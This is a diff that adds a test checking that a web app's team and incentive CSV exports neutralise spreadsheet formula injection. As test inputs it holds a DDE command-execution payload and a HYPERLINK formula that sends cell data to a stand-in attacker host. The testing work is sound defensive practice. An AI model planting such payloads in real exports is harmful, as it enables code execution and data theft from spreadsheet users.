@@ -220,3 +220,19 @@ def test_home_panels(app, team, frozen_today):
         client = app.test_client()
         login(client, user)
         assert marker in client.get("/").get_data(as_text=True)
+
+
+def test_csv_exports_neutralise_formula_cells(app, make_user, make_team, fill_days, frozen_today):
+    manager = make_user("manager")
+    team = make_team("=cmd|' /C calc'!A0", manager)
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    agent = make_user("agent", team=team, name=name, email="a@example.org")
+    fill_days(agent, date(2026, 11, 19), 3, **GOOD_DAY)
+    client = app.test_client()
+    login(client, manager)
+    for path in ("/scorecards/team.csv", "/scorecards/incentives.csv"):
+        text = _get(client, path).get_data(as_text=True).lstrip("\ufeff")
+        (row,) = csv.DictReader(io.StringIO(text))
+        assert row["agent_name"] == "'" + name, path
+        if "team" in row:
+            assert row["team"] == "'=cmd|' /C calc'!A0", path
